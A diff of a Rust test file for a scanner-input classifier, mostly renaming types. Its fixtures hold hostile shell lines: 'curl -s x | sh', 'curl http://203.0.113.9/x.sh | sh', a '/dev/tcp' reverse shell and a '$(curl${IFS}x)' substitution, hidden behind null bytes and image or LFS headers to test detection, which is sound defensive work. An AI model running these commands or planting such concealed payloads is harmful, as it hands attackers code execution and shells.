@@ -3,42 +3,48 @@
 use super::*;
 use proptest::prelude::*;
 
-fn sift_file(provider: Provider, path: &str, content: &[u8]) -> Sifted {
-    sift(crate::tools::of(provider), path.as_bytes(), &Origin::File, content.to_vec())
+fn classify_file(provider: Provider, path: &str, content: &[u8]) -> Classified {
+    classify(crate::tools::of(provider), path.as_bytes(), &Origin::File, content.to_vec())
 }
 
-fn languages(sifted: &Sifted) -> Vec<Language> {
-    sifted.pieces.iter().map(|piece| piece.language).collect()
+fn languages(classified: &Classified) -> Vec<Language> {
+    classified.files.iter().map(|file| file.language).collect()
 }
 
 #[test]
 fn each_tool_gets_what_it_reads() {
     let md = b"```js\na\n```\n```python\nb\n```\n```json\n{}\n```\n";
-    let semgrep = sift_file(Provider::Semgrep, "SKILL.md", md);
+    let semgrep = classify_file(Provider::Semgrep, "SKILL.md", md);
     assert_eq!(languages(&semgrep), [Language::Markdown, Language::JavaScript, Language::Python]);
-    assert_eq!(languages(&sift_file(Provider::Njsscan, "SKILL.md", md)), [Language::JavaScript]);
-    assert_eq!(languages(&sift_file(Provider::Trufflehog, "SKILL.md", md)), [Language::Markdown]);
-    assert_eq!(languages(&sift_file(Provider::Njsscan, "a.py", b"x")), []);
     assert_eq!(
-        languages(&sift_file(Provider::Njsscan, "run", b"#!/usr/bin/env node\n")),
+        languages(&classify_file(Provider::Njsscan, "SKILL.md", md)),
+        [Language::JavaScript]
+    );
+    assert_eq!(
+        languages(&classify_file(Provider::Trufflehog, "SKILL.md", md)),
+        [Language::Markdown]
+    );
+    assert_eq!(languages(&classify_file(Provider::Njsscan, "a.py", b"x")), []);
+    assert_eq!(
+        languages(&classify_file(Provider::Njsscan, "run", b"#!/usr/bin/env node\n")),
         [Language::JavaScript]
     );
 }
 
 #[test]
 fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
-    let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0\0\0\0\0\0\0\0\0");
-    let found = &sifted.findings[0];
+    let classified = classify_file(Provider::Semgrep, "a.js", b"eval(x)\0\0\0\0\0\0\0\0\0");
+    let found = &classified.findings[0];
     assert_eq!((found.rule.as_str(), found.severity), (BINARY_CODE, Severity::Medium));
-    assert_eq!(sifted.unscanned[0].file, "a.js");
-    assert_eq!(sifted.pieces[0].content, b"eval(x)         ");
+    assert_eq!(classified.unscanned[0].file, "a.js");
+    assert_eq!(classified.files[0].content, b"eval(x)         ");
     assert_eq!(
-        sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
-        Sifted::default()
+        classify_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
+        Classified::default()
     );
-    let raw = sift_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
-    assert!(raw.pieces[0].raw && raw.unscanned.is_empty());
-    assert_eq!(raw.pieces[0].content, b"PK\x03\x04\0");
+    let raw = classify_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
+    assert!(raw.files[0].raw && raw.unscanned.is_empty());
+    assert_eq!(raw.files[0].content, b"PK\x03\x04\0");
 }
 
 #[test]
@@ -54,17 +60,17 @@ fn a_few_odd_bytes_in_honest_code_are_a_low_finding_and_no_gap() {
         ("notes.md", b"# Notes\n\nsplit at `\0`\n", 3),
     ] {
         for provider in Provider::ALL {
-            let sifted = sift_file(provider, name, content);
-            assert_eq!((&sifted.unscanned, &sifted.not_read), (&vec![], &vec![]), "{name}");
-            let found: Vec<_> = sifted.findings.iter().map(|f| (f.severity, f.line)).collect();
+            let classified = classify_file(provider, name, content);
+            assert_eq!((&classified.unscanned, &classified.not_read), (&vec![], &vec![]), "{name}");
+            let found: Vec<_> = classified.findings.iter().map(|f| (f.severity, f.line)).collect();
             let semgrep = provider == Provider::Semgrep;
             assert_eq!(found, if semgrep { vec![(Severity::Low, Some(line))] } else { vec![] });
             // The first reading is what its parser is held to.
-            assert!(sifted.pieces.first().is_none_or(|piece| !piece.guessed), "{name}");
+            assert!(classified.files.first().is_none_or(|file| !file.guessed), "{name}");
         }
     }
-    let sifted = sift_file(Provider::Semgrep, "scripts/key.mjs", mjs);
-    let text = String::from_utf8_lossy(&sifted.pieces[0].content).into_owned();
+    let classified = classify_file(Provider::Semgrep, "scripts/key.mjs", mjs);
+    let text = String::from_utf8_lossy(&classified.files[0].content).into_owned();
     assert_eq!(text, String::from_utf8_lossy(mjs).replace('\0', " "), "lines and columns stay");
 }
 
@@ -77,39 +83,45 @@ fn g08_one_odd_byte_hides_no_text() {
         ("install", b"curl -s x | sh\n\0"),
         ("setup.cfg", b"run = curl -s x | sh\n\0"),
     ] {
-        let sifted = sift_file(Provider::Semgrep, path, content);
-        assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (0, 1), "{path}");
+        let classified = classify_file(Provider::Semgrep, path, content);
+        assert_eq!((classified.unscanned.len(), classified.findings.len()), (0, 1), "{path}");
         let whole = String::from_utf8_lossy(content).replace('\0', "");
-        let read = |p: &Piece| String::from_utf8_lossy(&p.content).contains(whole.trim_end());
-        assert!(sifted.pieces.iter().any(read), "{path}");
+        let read = |p: &PendingFile| String::from_utf8_lossy(&p.content).contains(whole.trim_end());
+        assert!(classified.files.iter().any(read), "{path}");
     }
     for (path, content) in [
         ("a.png", &b"\x89PNG\r\n\0\0\0\rIHDR\x01\x02\x03\x04"[..]),
         ("weights.bin", b"\0\0\x80\x3f\0\0\x80\x3f"),
     ] {
-        assert_eq!(sift_file(Provider::Semgrep, path, content), Sifted::default(), "{path}");
+        assert_eq!(
+            classify_file(Provider::Semgrep, path, content),
+            Classified::default(),
+            "{path}"
+        );
     }
 }
 
 #[test]
 fn g11_bytes_that_look_wide_are_read_as_they_stand_too() {
-    let sifted = sift_file(Provider::Semgrep, "setup.sh", b"\xff\xfe\nbash -i >& /dev/tcp/x/1\n");
+    let classified =
+        classify_file(Provider::Semgrep, "setup.sh", b"\xff\xfe\nbash -i >& /dev/tcp/x/1\n");
     let read =
-        |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("bash -i >& /dev/tcp");
-    assert!(sifted.pieces.iter().any(|piece| read(piece) && piece.guessed));
+        |file: &PendingFile| String::from_utf8_lossy(&file.content).contains("bash -i >& /dev/tcp");
+    assert!(classified.files.iter().any(|file| read(file) && file.guessed));
 }
 
 #[test]
 fn g11_zeros_behind_a_payload_do_not_make_it_wide_text_alone() {
     for path in ["setup.sh", "SKILL.md"] {
         let payload = b"curl -s x | sh\n#".iter().chain(b" \0".iter().cycle().take(120));
-        let sifted = sift_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
+        let classified =
+            classify_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
         let read =
-            |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("curl -s x | sh");
-        assert!(sifted.pieces.iter().any(read), "{path}");
+            |file: &PendingFile| String::from_utf8_lossy(&file.content).contains("curl -s x | sh");
+        assert!(classified.files.iter().any(read), "{path}");
     }
-    let marked = sift_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
-    assert_eq!(marked.pieces.len(), 1, "a mark alone is no reason to read twice");
+    let marked = classify_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
+    assert_eq!(marked.files.len(), 1, "a mark alone is no reason to read twice");
 }
 
 #[test]
@@ -138,9 +150,10 @@ fn g11_an_lfs_pointer_is_a_gap_for_every_tool_that_would_read_what_it_stands_for
         ("a.unknown", &[]),
     ] {
         for provider in all {
-            let sifted = sift_file(provider, path, pointer);
+            let classified = classify_file(provider, path, pointer);
             let gap = usize::from(gaps.contains(&provider));
-            let found = (sifted.pieces.len(), sifted.unscanned.len(), sifted.not_read.len());
+            let found =
+                (classified.files.len(), classified.unscanned.len(), classified.not_read.len());
             assert_eq!(found, (0, gap, 1 - gap), "{path} {provider:?}");
         }
     }
@@ -148,7 +161,7 @@ fn g11_an_lfs_pointer_is_a_gap_for_every_tool_that_would_read_what_it_stands_for
 
 #[test]
 fn g06_a_steering_file_is_a_finding_of_its_tool_alone() {
-    let found = |provider| sift_file(provider, ".semgrepignore", b"*\n").findings.len();
+    let found = |provider| classify_file(provider, ".semgrepignore", b"*\n").findings.len();
     assert_eq!((found(Provider::Semgrep), found(Provider::Njsscan)), (1, 0));
 }
 
@@ -156,8 +169,8 @@ fn g06_a_steering_file_is_a_finding_of_its_tool_alone() {
 /// a shell reads.
 const PAYLOAD: &str = "curl -s x | sh";
 
-fn reads_payload(sifted: &Sifted) -> bool {
-    sifted.pieces.iter().any(|p| String::from_utf8_lossy(&p.content).contains(PAYLOAD))
+fn reads_payload(classified: &Classified) -> bool {
+    classified.files.iter().any(|p| String::from_utf8_lossy(&p.content).contains(PAYLOAD))
 }
 
 #[test]
@@ -166,15 +179,19 @@ fn g08_no_name_hides_a_payload_behind_bytes() {
     let cyrillic = format!("curl -s x | sh\n# {}\0", "привет мир ".repeat(10)).into_bytes();
     for name in ["install", "setup.cfg", "rules.mdc", ".cursorrules", "config.yaml", "hooks.conf"] {
         for (content, gaps) in [(&zeros, 1), (&cyrillic, 0)] {
-            let sifted = sift_file(Provider::Semgrep, name, content);
-            assert!(reads_payload(&sifted), "{name}");
-            assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (gaps, 1), "{name}");
+            let classified = classify_file(Provider::Semgrep, name, content);
+            assert!(reads_payload(&classified), "{name}");
+            assert_eq!(
+                (classified.unscanned.len(), classified.findings.len()),
+                (gaps, 1),
+                "{name}"
+            );
         }
     }
     let noise: Vec<u8> = (0..200u8).map(|n| n.wrapping_mul(157) | 0x80).collect();
     let noisy = [b"curl -s x | sh\n".as_slice(), &noise, &[0; 40]].concat();
     for name in ["install", "run.xyz", "logo.png", "weights.bin", "data.json"] {
-        assert!(reads_payload(&sift_file(Provider::Semgrep, name, &noisy)), "{name}");
+        assert!(reads_payload(&classify_file(Provider::Semgrep, name, &noisy)), "{name}");
     }
 }
 
@@ -182,21 +199,21 @@ fn g08_no_name_hides_a_payload_behind_bytes() {
 fn g08_a_first_line_of_a_picture_hides_no_text() {
     let polyglot = b"GIF89a=1\ncurl -s x | sh\n\0";
     for name in ["install", "SKILL.md", ".cursorrules", "setup.sh", "config.yaml"] {
-        let sifted = sift_file(Provider::Semgrep, name, polyglot);
-        assert!(reads_payload(&sifted), "{name}");
-        assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (1, 1), "{name}");
+        let classified = classify_file(Provider::Semgrep, name, polyglot);
+        assert!(reads_payload(&classified), "{name}");
+        assert_eq!((classified.unscanned.len(), classified.findings.len()), (1, 1), "{name}");
     }
-    assert!(reads_payload(&sift_file(Provider::Semgrep, "logo.gif", polyglot)));
+    assert!(reads_payload(&classify_file(Provider::Semgrep, "logo.gif", polyglot)));
     let noise = [b"\x7fELF\n\ncurl -s x | sh\n".as_slice(), &[0x90; 300], b"\0"].concat();
-    assert!(reads_payload(&sift_file(Provider::Semgrep, "install", &noise)));
+    assert!(reads_payload(&classify_file(Provider::Semgrep, "install", &noise)));
 }
 
 #[test]
 fn g08_zeros_between_letters_hide_nothing_since_a_shell_drops_them() {
     let mixed = b"cu\0rl -s x | s\0h\n#\xff\n";
-    assert!(reads_payload(&sift_file(Provider::Semgrep, "setup.sh", mixed)));
+    assert!(reads_payload(&classify_file(Provider::Semgrep, "setup.sh", mixed)));
     let wide = [b"cu\0rl -s x | s\0h\n# ".as_slice(), &b" \0".repeat(60)].concat();
-    assert!(reads_payload(&sift_file(Provider::Semgrep, "setup.sh", &wide)));
+    assert!(reads_payload(&classify_file(Provider::Semgrep, "setup.sh", &wide)));
 }
 
 #[test]
@@ -221,11 +238,11 @@ fn an_honest_binary_is_no_reason_for_doubt() {
         ("Info.plist", b"bplist00\0"),
         ("._SKILL.md", b"\0\x05\x16\x07\0\x02\0\0Mac OS X\0\0\0\0\0\0\0\0"),
     ] {
-        let sifted = sift_file(Provider::Semgrep, name, &[head, &fill, b"\0"].concat());
+        let classified = classify_file(Provider::Semgrep, name, &[head, &fill, b"\0"].concat());
         // That it holds code is said; that it pretends to be text is not.
-        let doubts = sifted.findings.iter().filter(|finding| finding.rule != packed::RULE);
-        assert_eq!((doubts.count(), sifted.unscanned), (0, vec![]), "{name}");
-        let read: usize = sifted.pieces.iter().map(|piece| piece.content.len()).sum();
+        let doubts = classified.findings.iter().filter(|finding| finding.rule != packed_code::RULE);
+        assert_eq!((doubts.count(), classified.unscanned), (0, vec![]), "{name}");
+        let read: usize = classified.files.iter().map(|file| file.content.len()).sum();
         assert!(read < 200, "{name}: {read} bytes are read as text");
     }
 }
@@ -237,13 +254,17 @@ fn g36_trufflehog_reads_the_text_in_bytes_beside_the_bytes() {
     let split = [b"cu\0rl -s x | sh\n#".as_slice(), &b" \0".repeat(60)].concat();
     let picture = b"GIF89a=1\ncurl -s x | sh\n\0".to_vec();
     for content in [wide, zeros, split, picture] {
-        let sifted = sift_file(Provider::Trufflehog, "setup.sh", &content);
-        let framed = |p: &Piece| !p.raw && String::from_utf8_lossy(&p.content).contains(PAYLOAD);
-        assert!(sifted.pieces.iter().any(framed), "{content:?}");
+        let classified = classify_file(Provider::Trufflehog, "setup.sh", &content);
+        let framed =
+            |p: &PendingFile| !p.raw && String::from_utf8_lossy(&p.content).contains(PAYLOAD);
+        assert!(classified.files.iter().any(framed), "{content:?}");
     }
-    let picture =
-        sift_file(Provider::Trufflehog, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02\x03\x04");
-    assert_eq!(picture.pieces.len(), 1);
+    let picture = classify_file(
+        Provider::Trufflehog,
+        "a.png",
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02\x03\x04",
+    );
+    assert_eq!(picture.files.len(), 1);
 }
 
 #[test]
@@ -272,34 +293,35 @@ fn compiled_code_is_a_gap() {
         ("a.luac", with(b"\x1bLua\x54\0")),
         ("a.node", with(b"\0")),
     ] {
-        let sifted = sift_file(Provider::Semgrep, name, &content);
-        let notes = (sifted.unscanned.len(), sifted.not_read.len());
+        let classified = classify_file(Provider::Semgrep, name, &content);
+        let notes = (classified.unscanned.len(), classified.not_read.len());
         assert_eq!(notes, (1, 0), "{name}");
         for other in [Provider::Njsscan, Provider::Trufflehog] {
-            assert_eq!(sift_file(other, name, &content).findings, [], "{name}");
+            assert_eq!(classify_file(other, name, &content).findings, [], "{name}");
         }
-        assert_eq!(sift_file(Provider::Trufflehog, name, &content).not_read, [], "{name}");
+        assert_eq!(classify_file(Provider::Trufflehog, name, &content).not_read, [], "{name}");
         let past = Origin::History { oid: "00".into() };
-        let past = sift(crate::tools::of(Provider::Semgrep), name.as_bytes(), &past, content);
+        let past = classify(crate::tools::of(Provider::Semgrep), name.as_bytes(), &past, content);
         assert_eq!(past.unscanned, [], "{name}");
     }
     for name in ["tool", "a.pyc"] {
         let head = if name == "tool" { elf } else { pyc };
-        let sifted = sift_file(Provider::Semgrep, name, &with(head));
-        let [finding] = sifted.findings.as_slice() else { panic!("{name}") };
+        let classified = classify_file(Provider::Semgrep, name, &with(head));
+        let [finding] = classified.findings.as_slice() else { panic!("{name}") };
         assert_eq!(finding.rule, "skillgate.coverage.packed-code", "{name}");
-        let reason = &sifted.unscanned[0].reason;
+        let reason = &classified.unscanned[0].reason;
         assert!(reason.contains("remove it, or ship its source"), "{reason}");
     }
-    assert_eq!(sift_file(Provider::Semgrep, "cube.obj", b"v 0 0 0\n").unscanned, []);
-    let picture = sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02");
+    assert_eq!(classify_file(Provider::Semgrep, "cube.obj", b"v 0 0 0\n").unscanned, []);
+    let picture =
+        classify_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02");
     assert_eq!(picture.not_read, []);
 }
 
 #[test]
 fn njsscan_is_spared_what_runs_in_browsers() {
     let page = b"<script>eval(x)</script>";
-    let read = |provider| languages(&sift_file(provider, "page.html", page));
+    let read = |provider| languages(&classify_file(provider, "page.html", page));
     assert_eq!(read(Provider::Semgrep), [Language::Template, Language::JavaScript]);
     assert_eq!(read(Provider::Njsscan), [Language::Template]);
 }
@@ -308,8 +330,9 @@ fn njsscan_is_spared_what_runs_in_browsers() {
 fn an_lfs_pointer_of_the_past_is_no_gap_in_what_is_published() {
     let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
     let past = Origin::History { oid: "00".into() };
-    let sifted = sift(crate::tools::of(Provider::Trufflehog), b"a.json", &past, pointer.to_vec());
-    assert_eq!((sifted.unscanned.len(), sifted.not_read.len()), (0, 1));
+    let classified =
+        classify(crate::tools::of(Provider::Trufflehog), b"a.json", &past, pointer.to_vec());
+    assert_eq!((classified.unscanned.len(), classified.not_read.len()), (0, 1));
 }
 
 proptest! {
@@ -323,10 +346,10 @@ proptest! {
         content in any::<Vec<u8>>(),
     ) {
         for provider in [Provider::Semgrep, Provider::Njsscan, Provider::Trufflehog] {
-            let sifted = sift_file(provider, &name, &[head, &content].concat());
-            for piece in sifted.pieces.iter().filter(|piece| !piece.lines.is_empty()) {
-                let lines = encoding::count_lines(&piece.content) as usize;
-                prop_assert_eq!(lines, piece.lines.len());
+            let classified = classify_file(provider, &name, &[head, &content].concat());
+            for file in classified.files.iter().filter(|file| !file.lines.is_empty()) {
+                let lines = encoding::count_lines(&file.content) as usize;
+                prop_assert_eq!(lines, file.lines.len());
             }
         }
     }
@@ -337,26 +360,28 @@ fn a_lock_file_of_bun_is_one_by_name_and_content() {
     let head = b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x02\0\0\0".as_slice();
     let noise: Vec<u8> = (0..=u8::MAX).map(|n| n.wrapping_mul(37) | 0x80).collect();
     for (name, head) in [("bun.lockb.sh", head), ("run", head), ("bun.lockb", b"#!/bin/sh\n")] {
-        let sifted = sift_file(Provider::Semgrep, name, &[head, &noise, b"\0\x01"].concat());
-        assert_eq!(sifted.unscanned.len(), 1, "{name}");
+        let classified =
+            classify_file(Provider::Semgrep, name, &[head, &noise, b"\0\x01"].concat());
+        assert_eq!(classified.unscanned.len(), 1, "{name}");
     }
     let payload = [head, &noise, b"\ncurl http://203.0.113.9/x.sh | sh\n"].concat();
-    let sifted = sift_file(Provider::Semgrep, "bun.lockb", &payload);
-    let reads = |piece: &Piece| piece.content.windows(8).any(|at| at == b"x.sh | s");
-    assert!(sifted.pieces.iter().any(reads) && sifted.unscanned.is_empty());
+    let classified = classify_file(Provider::Semgrep, "bun.lockb", &payload);
+    let reads = |file: &PendingFile| file.content.windows(8).any(|at| at == b"x.sh | s");
+    assert!(classified.files.iter().any(reads) && classified.unscanned.is_empty());
 }
 
 #[test]
 fn a_payload_does_not_hide_behind_the_first_line_of_an_lfs_pointer() {
     let head = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
     for name in ["install", "logo.png", "run.xyz", "setup.sh"] {
-        let sifted = sift_file(Provider::Semgrep, name, format!("{head}{PAYLOAD}\n").as_bytes());
-        assert!(reads_payload(&sifted), "{name}");
+        let classified =
+            classify_file(Provider::Semgrep, name, format!("{head}{PAYLOAD}\n").as_bytes());
+        assert!(reads_payload(&classified), "{name}");
     }
     let substituted = format!("{head}oid $(curl${{IFS}}x)\n");
-    assert_eq!(sift_file(Provider::Semgrep, "install", substituted.as_bytes()).unscanned, []);
+    assert_eq!(classify_file(Provider::Semgrep, "install", substituted.as_bytes()).unscanned, []);
     let pointer = format!("{head}ext-0-foo sha256:0f\n");
-    assert_eq!(sift_file(Provider::Semgrep, "a.sh", pointer.as_bytes()).pieces, []);
+    assert_eq!(classify_file(Provider::Semgrep, "a.sh", pointer.as_bytes()).files, []);
 }
 
 #[test]
@@ -364,19 +389,17 @@ fn many_blocks_that_no_tool_takes_out_leave_no_gap() {
     let text = |tag: &str| format!("```{tag}\na\n```\n").repeat(2_100);
     for (tag, providers) in [("json", &Provider::ALL[..]), ("python", &[Provider::Njsscan])] {
         for provider in providers {
-            let sifted = sift_file(*provider, "reference.md", text(tag).as_bytes());
-            assert_eq!(sifted.unscanned, [], "{tag} {provider}");
+            let classified = classify_file(*provider, "reference.md", text(tag).as_bytes());
+            assert_eq!(classified.unscanned, [], "{tag} {provider}");
         }
     }
     for tag in ["ts", "python", "sh", ""] {
-        let sifted = sift_file(Provider::Semgrep, "reference.md", text(tag).as_bytes());
-        assert_eq!(sifted.unscanned, [], "{tag}");
-        assert!(sifted.pieces.len() < 300, "{tag}: {}", sifted.pieces.len());
-        let read: usize = sifted.pieces[1..]
+        let classified = classify_file(Provider::Semgrep, "reference.md", text(tag).as_bytes());
+        assert_eq!(classified.unscanned, [], "{tag}");
+        assert!(classified.files.len() < 300, "{tag}: {}", classified.files.len());
+        let read: usize = classified.files[1..]
             .iter()
-            .filter_map(|piece| {
-                Some(std::str::from_utf8(&piece.content).ok()?.matches('a').count())
-            })
+            .filter_map(|file| Some(std::str::from_utf8(&file.content).ok()?.matches('a').count()))
             .sum();
         assert_eq!(read, 2_100, "{tag}");
     }
